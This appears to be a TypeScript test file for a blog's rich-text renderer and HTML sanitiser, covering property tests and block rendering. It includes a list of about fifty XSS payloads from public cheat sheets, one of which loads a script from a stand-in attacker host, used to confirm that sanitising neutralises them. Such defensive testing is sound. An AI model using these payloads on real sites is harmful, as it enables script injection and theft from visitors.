import { renderToStaticMarkup } from 'react-dom/server'
import { MemoryRouter } from 'react-router'
import { describe, expect, it } from 'vitest'
import { apiClient } from '#tests/support/api.ts'
import { openBlogApp } from '#tests/support/builders/build-post.ts'
import fc from '#tests/support/property.ts'
import { blogEndpoints } from '../blog.api.server.ts'
import type { Post } from '../post.ts'
import { PostBody } from '../reading/body/post-body.tsx'
import { imagesOf, type RichText, shownWidths } from './blocks.ts'
import { showBody } from './body.server.ts'
import { contentProblem, readContent } from './content.ts'
import { sanitise } from './html.server.ts'

const text = fc.string({ unit: 'binary' }).map((text) => text.toWellFormed())

const mark = fc.option(fc.boolean(), { nil: undefined })

const leaf = fc.record({ text, bold: mark, italic: mark, underline: mark, code: mark })

const link = fc.record({
  type: fc.constant('link' as const),
  url: fc.oneof(fc.webUrl(), fc.constantFrom('/meals', '#top', 'mailto:a@b.example')),
  children: fc.array(leaf, { minLength: 1, maxLength: 3 }),
})

const inlines = fc.array(fc.oneof(leaf, link), { minLength: 1, maxLength: 4 })

const textBlock = fc.record({
  type: fc.constantFrom(
    ...['paragraph', 'heading-one', 'heading-two', 'heading-three', 'block-quote'],
  ),
  children: inlines,
})

const { list } = fc.letrec((tie) => ({
  list: fc.record({
    type: fc.constantFrom('numbered-list', 'bulleted-list'),
    children: fc.array(
      fc.oneof(
        { maxDepth: 3 },
        fc.record({ type: fc.constant('list-item' as const), children: inlines }),
        tie('list'),
      ),
      { maxLength: 3 },
    ),
  }),
}))

const cell = fc.record(
  { type: fc.constant('table-cell' as const), header: fc.constant(true), children: inlines },
  { requiredKeys: ['type', 'children'] },
)

const table = fc.integer({ min: 1, max: 3 }).chain((columns) =>
  fc.record({
    type: fc.constant('table' as const),
    children: fc.array(
      fc.record({
        type: fc.constant('table-row' as const),
        children: fc.array(cell, { minLength: columns, maxLength: columns }),
      }),
      { minLength: 1, maxLength: 3 },
    ),
  }),
)

const code = fc.record({
  type: fc.constant('code-block' as const),
  children: fc.array(fc.record({ text }), { minLength: 1, maxLength: 2 }),
})

const noText = fc.constant([{ text: '' }])

const divider = fc.record({ type: fc.constant('divider' as const), children: noText })

const embed = fc.record({
  type: fc.constant('embed' as const),
  url: fc.constantFrom('https://youtu.be/dQw4w9WgXcQ', 'https://vimeo.com/76979871'),
  children: noText,
})

const meal = fc.record({
  type: fc.constant('meal' as const),
  mealId: fc.uuid(),
  children: noText,
})

// Addresses on this site, because a picture on another one would be fetched and copied.
const imageUrl = fc.stringMatching(/^[\w-]{1,20}$/).map((name) => `/pictures/${name}.png`)

const image = fc.record({
  type: fc.constant('image' as const),
  url: imageUrl,
  alt: text,
  caption: fc.option(text, { nil: undefined }),
  width: fc.option(fc.constantFrom(...shownWidths), { nil: undefined }),
  children: fc.constant([{ text: '' }]),
})

const gallery = fc.record({
  type: fc.constant('gallery' as const),
  images: fc.array(fc.record({ url: imageUrl, alt: text }), { minLength: 1, maxLength: 3 }),
  children: noText,
})

const richText = fc.array(
  fc.oneof(textBlock, list, image, table, code, divider, embed, meal, gallery),
  { minLength: 1, maxLength: 8 },
)

const render = (blocks: Awaited<ReturnType<typeof showBody>>['blocks']) =>
  renderToStaticMarkup(
    <MemoryRouter>
      <PostBody blocks={blocks} />
    </MemoryRouter>,
  )

describe('any document that the editor can hold', () => {
  it('survives being saved, read and shown [post-10, reading-01]', async () => {
    const app = await openBlogApp()
    const staff = await apiClient(app, blogEndpoints).as('Admin')
    const { body: post } = await staff.post<Post>('/blogs', { title: 'Any' })
    await fc.assert(
      fc.asyncProperty(richText, async (blocks) => {
        const content = JSON.stringify(blocks)
        fc.pre(!content.includes('\0'))
        expect(contentProblem(content)).toBeNull()
        const { body } = await staff.put<Post>(`/blogs/${post._id}`, { content })
        expect(body.content).toBe(content)
        // Through JSON, which drops undefined fields.
        const saved: RichText = JSON.parse(content)
        expect(readContent(body.content)).toEqual({ kind: 'rich', blocks: saved })
        const html = render((await showBody(app, body.content)).blocks)
        expect(html).not.toMatch(/<script|\son\w+=|javascript:/)
        expect(html.match(/<img|Image unavailable|<picture/g)?.length ?? 0).toBeGreaterThanOrEqual(
          saved.flatMap(imagesOf).length,
        )
      }),
      { numRuns: 60 },
    )
  })
})

/** Attacks from public cheat sheets; without sanitising, each would run in some browser. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="&#97;lert(1)">',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=`javascript:alert("a")`>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img/src="x"/onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href="jav\nascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a onmouseover="alert(1)">a</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math href="javascript:alert(1)">a</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="javascript:alert(1);//">',
  '<link rel="stylesheet" href="javascript:alert(1);">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">a</div>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">a</td></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<xss onclick="alert(1)">a</xss>',
  '<p title="a" onclick=alert(1)>a</p>',
]

const actors =
  /^(script|style|iframe|object|embed|form|input|button|svg|math|base|link|meta|template|body|video|audio)$/

/** The tags that could run something; plain text is harmless. */
const acts = (html: string) =>
  [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)]
    .filter(([, name = '', rest = '']) => actors.test(name.toLowerCase()) || hasActor(rest))
    .map(([tag]) => tag)

const hasActor = (attributes: string) =>
  [...attributes.matchAll(/([\w:-]+)\s*=\s*"([^"]*)"/g)].some(([, name = '', value = '']) =>
    /^(href|src)$/i.test(name)
      ? !['http:', 'https:', 'mailto:'].includes(
          URL.parse(value, 'https://a.example')?.protocol ?? '',
        )
      : /^(on|style|srcdoc|formaction|background|xlink)/i.test(name),
  ) || /^[^"]*\son\w+\s*=/i.test(attributes.replaceAll(/"[^"]*"/g, '""'))

describe('the HTML of older posts', () => {
  it.each(attacks)('is harmless where it says %s [post-11]', async (attack) => {
    const app = await openBlogApp()
    expect(acts(sanitise(attack))).toEqual([])
    expect(acts(render((await showBody(app, `<p>Hello</p>${attack}`)).blocks))).toEqual([])
  })

  it('is harmless however such shapes are put together', async () => {
    const app = await openBlogApp()
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...attacks),
        fc.string(),
        fc.constantFrom('<', '"', "'", '>', '</p>', '<p title="', '<!--', '-->'),
      ),
      { maxLength: 8 },
    )
    await fc.assert(
      fc.asyncProperty(pieces, async (pieces) => {
        const html = pieces.join('')
        expect(acts(sanitise(html))).toEqual([])
        expect(acts(render((await showBody(app, `<p>a</p>${html}`)).blocks))).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  it('keeps its words, structure, links and images, and its tables scroll [reading-05]', async () => {
    const app = await openBlogApp()
    const html =
      '<h2>Rice &amp; beans</h2><p>One <b>two</b> <a href="https://a.example/?a=1&amp;b=2">three</a></p><ul><li>x</ul><img src="/media/a.webp" alt="A &quot;b&quot;"><table><tr><td colspan=2>1</table>'
    const shown = render((await showBody(app, html)).blocks)
    expect(shown).toContain('<h2 id="section-rice-beans">Rice &amp; beans</h2>')
    expect(shown).toContain('<a href="https://a.example/?a=1&amp;b=2">three</a>')
    expect(shown).toContain('<li>x</li>')
    expect(shown).toContain('alt="A &quot;b&quot;"')
    expect(shown).toContain('<td colSpan="2">1</td>')
    expect(shown).toMatch(/<section [^>]*class="post-table" tabindex="0"><table>/)
  })
})

describe('blocks on the page', () => {
  const shownOf = async (...blocks: unknown[]) => {
    const app = await openBlogApp()
    return render((await showBody(app, JSON.stringify(blocks))).blocks)
  }
  const heading = (type: string, text: string) => ({ type, children: [{ text }] })
  const item = (text: string) => ({ type: 'list-item', children: [{ text }] })
  const cell = (text: string, header?: true) => ({
    type: 'table-cell',
    ...(header && { header }),
    children: [{ text }],
  })
  const row = (...children: unknown[]) => ({ type: 'table-row', children })

  it('headings never skip a level [block-01]', async () => {
    const html = await shownOf(
      heading('heading-three', 'a'),
      heading('heading-three', 'b'),
      heading('heading-one', 'c'),
      heading('heading-three', 'd'),
      heading('heading-two', 'e'),
    )
    expect(html.match(/<h\d/g)).toEqual(['<h2', '<h2', '<h2', '<h3', '<h3'])
  })

  it('a list inside a list stands in the item before it [block-02]', async () => {
    const inner = { type: 'numbered-list', children: [item('b')] }
    const html = await shownOf({ type: 'bulleted-list', children: [item('a'), inner] })
    expect(html.replaceAll(/<\/?span[^>]*>| id="\w+"/g, '')).toContain(
      '<ul><li>a<ol><li>b</li></ol></li></ul>',
    )
    const sent = { type: 'list-item', children: [{ text: 'a' }, inner] }
    expect(await shownOf({ type: 'bulleted-list', children: [sent] })).toBe(html)
  })

  it('a table has a head and rows of one length [block-02]', async () => {
    const html = await shownOf({
      type: 'table',
      children: [row(cell('Food', true), cell('kcal', true)), row(cell('Rice'))],
    })
    expect(html).toContain('<th scope="col">Food</th>')
    expect(html).toContain('<tbody><tr><td>Rice</td><td></td></tr></tbody>')
  })

  it('code, dividers and galleries are shown as such [block-02]', async () => {
    const html = await shownOf(
      { type: 'code-block', children: [{ text: 'a <b>\n  c', bold: true }] },
      { type: 'divider' },
      { type: 'gallery', images: [{ url: '/media/a.webp', alt: 'Rice' }] },
    )
    expect(html).toContain('<pre><code>a &lt;b&gt;\n  c</code></pre>')
    expect(html).toContain('<hr id="main-points"/>')
    expect(html).toMatch(/<a href="\/media\/a.webp"><picture.*alt="Rice"/)
  })

  it('an image has the width that its writer chose, an unknown one that of the text [reading-01]', async () => {
    const shown = async (width: unknown) =>
      await shownOf({ type: 'image', url: '/media/a.webp', alt: 'Rice', width, children: [] })
    expect(await shown('wide')).toContain('<figure id="introduction" class="post-wide">')
    expect(await shown('full')).toContain('class="post-wide post-full">')
    for (const width of [undefined, 'normal', 640, '50%', null]) {
      expect(await shown(width)).toContain('<figure id="introduction"><div>')
    }
  })

  it('a footnote is a number that leads to its text and back [reading-02]', async () => {
    const html = await shownOf(
      heading('heading-one', 'Rice[^b]'),
      { type: 'paragraph', children: [{ text: 'Cold[^a] and warm[^b].', bold: true }] },
      { type: 'paragraph', children: [{ text: '[^a]: Once cooled.' }] },
      { type: 'paragraph', children: [{ text: '[^b]: When ' }, { text: 'hot', italic: true }] },
    )
    const reference = (id: string, number: number) =>
      `<sup id="${id}"><a href="#footnote-${number}" role="doc-noteref" aria-label="Footnote ${number}">`
    expect(html).toMatch(/^<div class="post-body"><h2 id="section-rice">/)
    expect(html).toContain(`Rice${reference('reference-1', 1)}1</a></sup>`)
    expect(html).toContain(reference('reference-2', 2))
    expect(html).toContain(reference('reference-1-2', 1))
    expect(html.match(/<li id="footnote-\d">[^<]*/g)).toEqual([
      '<li id="footnote-1">When ',
      '<li id="footnote-2">Once cooled. ',
    ])
    for (const id of ['reference-1', 'reference-1-2', 'reference-2']) {
      expect(html).toContain(`<a href="#${id}" role="doc-backlink"`)
    }
    expect(html).not.toContain('[^')
  })

  it('a video loads nothing before it is pressed [block-03]', async () => {
    const html = await shownOf({ type: 'embed', url: 'https://youtu.be/dQw4w9WgXcQ?t=90' })
    expect(html).toContain('href="https://youtu.be/dQw4w9WgXcQ?t=90"')
    expect(html).toContain('Play the video on YouTube')
    expect(html).not.toMatch(/<iframe|<img|src=/)
  })
})

describe('the table of contents', () => {
  const paragraph = (text: string) => ({ type: 'paragraph', children: [{ text }] })
  const heading = (text: string) => ({ type: 'heading-one', children: [{ text }] })
  const contentsOf = async (...blocks: unknown[]) => {
    const app = await openBlogApp()
    return (await showBody(app, JSON.stringify(blocks))).contents.map(({ text }) => text)
  }

  it('is there above 1000 characters only [post-12]', async () => {
    expect(await contentsOf(heading('A'), paragraph('b'.repeat(800)))).toEqual([])
    expect(await contentsOf(heading('A'), paragraph('b'.repeat(1000)))).toEqual(['A'])
  })

  it('has three entries of its own where the post has no headings [post-12]', async () => {
    const contents = await contentsOf(paragraph('b'.repeat(1000)))
    expect(contents).toEqual(['Introduction', 'Main Points', 'Conclusion'])
  })
})
